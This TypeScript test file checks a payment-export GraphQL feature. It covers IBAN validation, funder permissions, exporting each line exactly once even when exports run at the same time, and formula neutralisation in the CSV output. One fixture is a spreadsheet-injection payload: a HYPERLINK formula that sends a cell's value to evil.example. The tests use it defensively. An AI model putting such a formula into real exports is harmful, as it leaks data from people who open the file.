// Payment export: per funder and period, the approved allowances and claims not yet
// exported, as a CSV (IBAN, amounts in cents and in euros); the lines are marked exported
// and never exported again, also when two exports run at once. Spreadsheet formulas in
// the CSV are neutralised.
import { ManualClock } from "../../server/src/clock";
import { organisationFunder } from "../../server/src/domain/funder";
import {
  CompensationWorld,
  startCompensationSuite,
  csvRecords,
  failure,
  parseCsv,
  refusedUnchanged,
  type KeyPerson,
  type Organisation,
} from "../support/compensation-fixtures";
import { gql, ok, type GraphQLResponse } from "../support/graphql";
import type { TestServer } from "../support/server";

jest.setTimeout(60_000);

// The assignments begin on 3 March 2025; "today" is 16 June 2025.
const clock = new ManualClock(new Date("2025-03-03T08:00:00Z"));
const HEADER = ["reference", "type", "key_person_id", "key_person", "iban", "date", "hours", "description", "amount_cents", "amount_eur", "period", "export"];
const EVIL_NAME = `=HYPERLINK("http://evil.example/?leak="&A1;"Click")`;
const SET_IBAN = `mutation($k: ID!, $iban: String!) { setPaymentDetails(keyPersonId: $k, iban: $iban) }`;
const EXPORTS = `{ paymentExports(perPage: 100) { total items { id funder periodFrom periodTo lineCount totalCents } } }`;

let server: TestServer, world: CompensationWorld, orgA: Organisation, orgB: Organisation;
let amina: KeyPerson;
let evil: KeyPerson;
let aminaA: string;
let aminaB: string;
let aminaScheme: string;
let evilA: string;

beforeAll(async () => {
  ({ server, world, orgA, orgB } = await startCompensationSuite(clock));
  [amina, evil] = await Promise.all([world.keyPerson({ name: "Amina Yusuf" }), world.keyPerson({ name: EVIL_NAME })]);
  aminaA = await world.assignment(orgA, amina);
  aminaB = await world.assignment(orgB, amina);
  aminaScheme = await world.assignment(orgA, amina, "NATIONAL_SCHEME");
  evilA = await world.assignment(orgA, evil);
  await world.setClock("2025-06-16T10:00:00Z");
});
afterAll(async () => {
  await server?.stop();
});

const refused = (run: () => Promise<GraphQLResponse>) => refusedUnchanged(server, run);

const reference = (type: "H" | "C", id: string) => `${type}-${id}`;

describe("payment details", () => {
  test("a key person (or a coordinator) records a valid IBAN; others may not, and bad ones are refused", async () => {
    expect((await ok(world.url, SET_IBAN, { k: amina.id, iban: "nl91 abna 0417 1643 00" }, amina.token)).setPaymentDetails).toBe(true);
    expect((await ok(world.url, SET_IBAN, { k: evil.id, iban: "DE89 3704 0044 0532 0130 00" }, world.coordinator)).setPaymentDetails).toBe(true);
    expect(await server.dataSource.query(`SELECT key_person_id::text AS id, iban FROM payment_details ORDER BY iban`)).toEqual([
      { id: evil.id, iban: "DE89370400440532013000" },
      { id: amina.id, iban: "NL91ABNA0417164300" },
    ]);

    for (const iban of ["NL92ABNA0417164300", "12345", ""]) {
      expect(await refused(() => gql(world.url, SET_IBAN, { k: amina.id, iban }, amina.token))).toMatchObject({ code: "BAD_USER_INPUT", field: "iban" });
    }
    expect((await refused(() => gql(world.url, SET_IBAN, { k: amina.id, iban: "NL91ABNA0417164300" }, evil.token))).code).toBe("NOT_FOUND");
    expect((await refused(() => gql(world.url, SET_IBAN, { k: amina.id, iban: "NL91ABNA0417164300" }, orgA.token))).code).toBe("FORBIDDEN");
  });
});

describe("exporting payments", () => {
  /** April for orgA: what must be exported, by reference, with its amount. */
  const april: Record<string, number> = {};
  let firstBatch: { id: string; csv: string };

  test("per funder and period: a CSV of the approved, unexported lines, which are then marked exported", async () => {
    const hours = (kp: KeyPerson, assignment: string, funder: string, date: string, h: number) => world.approved(kp, assignment, funder, date, h);
    for (const [date, h] of [
      ["2025-04-01", 3],
      ["2025-04-15", 2.5],
      ["2025-04-22", 2.25],
    ] as const) {
      const entry = await hours(amina, aminaA, orgA.token, date, h);
      april[reference("H", entry.id)] = entry.allowanceCents;
    }
    const evilHours = await hours(evil, evilA, orgA.token, "2025-04-02", 2);
    april[reference("H", evilHours.id)] = 1120;
    const tram = await world.claim(amina, {
      assignmentId: aminaA,
      kind: "PUBLIC_TRANSPORT",
      amountCents: 1250,
      date: "2025-04-10",
      description: `Tram; zone 1 "return"`,
    });
    await world.reviewClaim(orgA.token, tram.id);
    april[reference("C", tram.id)] = 1250;
    const car = await world.claim(amina, { assignmentId: aminaA, kind: "OWN_TRANSPORT_KM", km: 40, date: "2025-04-20", description: "=SUM(A1:A9)" });
    await world.reviewClaim(orgA.token, car.id);
    april[reference("C", car.id)] = 920;
    expect(Object.values(april)).toEqual([1680, 1400, 1260, 1120, 1250, 920]);

    // Not in orgA's April export: not approved, rejected, another funder's, outside the period.
    const waiting = await world.declare(amina, aminaA, "2025-04-16", 1);
    const rejected = await world.claim(amina, { assignmentId: aminaA, kind: "PUBLIC_TRANSPORT", amountCents: 300, date: "2025-04-11" });
    await world.reviewClaim(orgA.token, rejected.id, false, "No ticket");
    const byB = await hours(amina, aminaB, orgB.token, "2025-04-03", 1);
    const byScheme = await hours(amina, aminaScheme, world.coordinator, "2025-04-04", 1);
    const may = await hours(amina, aminaA, orgA.token, "2025-05-02", 1);

    const batch = await world.export(orgA.token, orgA.id, "2025-04-01", "2025-04-30");
    firstBatch = batch;
    expect(batch).toMatchObject({
      funder: organisationFunder(Number(orgA.id)),
      periodFrom: "2025-04-01",
      periodTo: "2025-04-30",
      lineCount: 6,
      totalCents: 7630,
    });
    expect(parseCsv(batch.csv)[0]).toEqual(HEADER);
    expect(batch.csv.endsWith("\r\n")).toBe(true);
    const lines = csvRecords(batch.csv);
    expect(Object.fromEntries(lines.map((l) => [l.reference, Number(l.amount_cents)]))).toEqual(april);
    for (const line of lines) {
      expect(line.amount_eur).toBe((Number(line.amount_cents) / 100).toFixed(2));
      expect(line.period).toBe("2025-04-01..2025-04-30");
      expect(line.export).toBe(batch.id);
    }
    const byRef = Object.fromEntries(lines.map((l) => [l.reference, l]));
    const first = byRef[reference("H", Object.keys(april)[0].slice(2))];
    expect(first).toMatchObject({
      type: "HOURS",
      key_person_id: amina.id,
      key_person: "Amina Yusuf",
      iban: "NL91ABNA0417164300",
      date: "2025-04-01",
      hours: "3",
      description: "SUPPORT",
      amount_cents: "1680",
      amount_eur: "16.80",
    });
    expect(
      lines
        .map((l) => l.hours)
        .filter(Boolean)
        .sort(),
    ).toEqual(["2", "2.25", "2.5", "3"]);
    expect(byRef[reference("C", tram.id)]).toMatchObject({
      type: "CLAIM",
      hours: "",
      description: `PUBLIC_TRANSPORT: Tram; zone 1 "return"`,
      amount_eur: "12.50",
    });
    expect(byRef[reference("H", evilHours.id)]).toMatchObject({ iban: "DE89370400440532013000", amount_eur: "11.20" });

    // Marked exported; the rest not.
    const exportedIds = (await world.hourEntries(orgA.token)).items.filter((h) => h.exportedAt).map((h) => reference("H", h.id));
    expect(exportedIds.sort()).toEqual(
      Object.keys(april)
        .filter((r) => r.startsWith("H"))
        .sort(),
    );
    const claims = (await world.expenseClaims(orgA.token)).items;
    expect(
      claims
        .filter((c) => c.exportedAt)
        .map((c) => reference("C", c.id))
        .sort(),
    ).toEqual([reference("C", tram.id), reference("C", car.id)].sort());
    for (const ref of [reference("H", waiting.id), reference("C", rejected.id), reference("H", byB.id), reference("H", byScheme.id), reference("H", may.id)]) {
      expect(batch.csv).not.toContain(`${ref};`);
    }

    // The other funders export their own lines.
    const b = await world.export(orgB.token, orgB.id, "2025-04-01", "2025-04-30");
    expect(csvRecords(b.csv).map((l) => l.reference)).toEqual([reference("H", byB.id)]);
    const scheme = await world.export(world.coordinator, null, "2025-01-01", "2025-06-16");
    expect(scheme).toMatchObject({ funder: "NATIONAL_SCHEME", lineCount: 1, totalCents: 560 });
  });

  test("a cell a spreadsheet would run as a formula starts with a quote", async () => {
    const lines = csvRecords(firstBatch.csv);
    expect(lines.filter((l) => l.key_person_id === evil.id).map((l) => l.key_person)).toEqual([`'${EVIL_NAME}`]);
    // The claim's description follows its kind, so "=SUM(A1:A9)" never starts a cell.
    expect(lines.map((l) => l.description)).toContain("OWN_TRANSPORT_KM: =SUM(A1:A9)");
    for (const row of parseCsv(firstBatch.csv)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  test("the same period again finds nothing; new lines go in a new batch, exported lines never again", async () => {
    const again = await refused(() => world.exportRaw(orgA.token, orgA.id, "2025-04-01", "2025-04-30"));
    expect(again).toMatchObject({ code: "BAD_USER_INPUT" });
    expect(again.message).toMatch(/Nothing approved and not yet exported between 2025-04-01 and 2025-04-30/);

    // Approved later, dated in the exported period: it goes in the next batch, with May's line.
    const [waiting] = (await world.hourEntries(orgA.token, { status: "SUBMITTED" })).items;
    await world.review(orgA.token, waiting.id);
    const late = await world.claim(evil, { assignmentId: evilA, kind: "OTHER", amountCents: 999, date: "2025-04-25", description: "+31 6 phone credit" });
    await world.reviewClaim(orgA.token, late.id);
    const second = await world.export(orgA.token, orgA.id, "2025-03-01", "2025-05-31");
    expect(second.id).not.toBe(firstBatch.id);
    const refs = csvRecords(second.csv).map((l) => l.reference);
    expect(refs).toHaveLength(3);
    expect(refs).toEqual(expect.arrayContaining([reference("H", waiting.id), reference("C", late.id)]));
    expect(refs.filter((r) => r in april)).toEqual([]);
    expect(second.lineCount).toBe(3);
    expect(second.totalCents).toBe(560 + 999 + 560);

    const listed = (await ok(world.url, EXPORTS, {}, orgA.token)).paymentExports;
    expect(listed.items.map((e: { id: string }) => e.id)).toEqual([second.id, firstBatch.id]);
    expect((await ok(world.url, EXPORTS, {}, orgB.token)).paymentExports.total).toBe(1);
    expect((await ok(world.url, EXPORTS, {}, world.coordinator)).paymentExports.items.map((e: { funder: string }) => e.funder)).toEqual(["NATIONAL_SCHEME"]);
    expect(failure(await gql(world.url, EXPORTS, {}, amina.token)).code).toBe("FORBIDDEN");
  });

  test("exports running at once never take the same line twice", async () => {
    for (const [round, days] of [
      [1, ["02", "03", "04"]],
      [2, ["09", "10", "11"]],
    ] as const) {
      const expected: string[] = [];
      for (const d of days) {
        expected.push(reference("H", (await world.approved(amina, aminaA, orgA.token, `2025-06-${d}`, 1)).id));
        const claim = await world.claim(amina, { assignmentId: aminaA, kind: "PUBLIC_TRANSPORT", amountCents: 100 * round, date: `2025-06-${d}` });
        await world.reviewClaim(orgA.token, claim.id);
        expected.push(reference("C", claim.id));
      }
      // Overlapping periods, all at once.
      const results = await Promise.all([
        world.exportRaw(orgA.token, orgA.id, "2025-06-01", "2025-06-30"),
        world.exportRaw(orgA.token, orgA.id, "2025-06-01", "2025-06-30"),
        world.exportRaw(orgA.token, orgA.id, `2025-06-${days[1]}`, "2025-06-16"),
      ]);
      const taken = results.filter((r) => !r.errors).flatMap((r) => csvRecords(r.data.exportPayments.csv).map((l) => l.reference));
      expect(taken.sort()).toEqual(expected.sort());
      for (const r of results.filter((r) => r.errors)) expect(failure(r).code).toBe("BAD_USER_INPUT");
    }
    // Every exported line points to the one batch whose CSV holds it.
    const lines: { ref: string; batch: number; csv: string }[] = await server.dataSource.query(
      `SELECT 'H-' || h.id AS ref, h.export_batch_id AS batch, e.csv FROM hour_entry h JOIN payment_export e ON e.id = h.export_batch_id
       UNION ALL SELECT 'C-' || c.id, c.export_batch_id, e.csv FROM expense_claim c JOIN payment_export e ON e.id = c.export_batch_id`,
    );
    const everywhere = (await server.dataSource.query(`SELECT csv FROM payment_export`)).flatMap((e: { csv: string }) =>
      csvRecords(e.csv).map((l) => l.reference),
    );
    expect(new Set(everywhere).size).toBe(everywhere.length);
    expect(everywhere.length).toBe(lines.length);
    for (const line of lines) expect(csvRecords(line.csv).map((l) => l.reference)).toContain(line.ref);
  });

  test("only the funder exports its own lines; a period must run forward", async () => {
    const cases: [string, string, string | null, string, string][] = [
      ["the coordinator, an organisation's lines", world.coordinator, orgA.id, "2025-01-01", "2025-06-16"],
      ["an organisation, another's lines", orgA.token, orgB.id, "2025-01-01", "2025-06-16"],
      ["an organisation, the national scheme's lines", orgA.token, null, "2025-01-01", "2025-06-16"],
      ["a key person", amina.token, orgA.id, "2025-01-01", "2025-06-16"],
    ];
    for (const [name, token, organisationId, from, to] of cases) {
      expect({ name, code: (await refused(() => world.exportRaw(token, organisationId, from, to))).code }).toEqual({ name, code: "FORBIDDEN" });
    }
    expect(await refused(() => world.exportRaw(orgA.token, orgA.id, "2025-06-16", "2025-06-01"))).toMatchObject({ code: "BAD_USER_INPUT", field: "to" });
  });
});
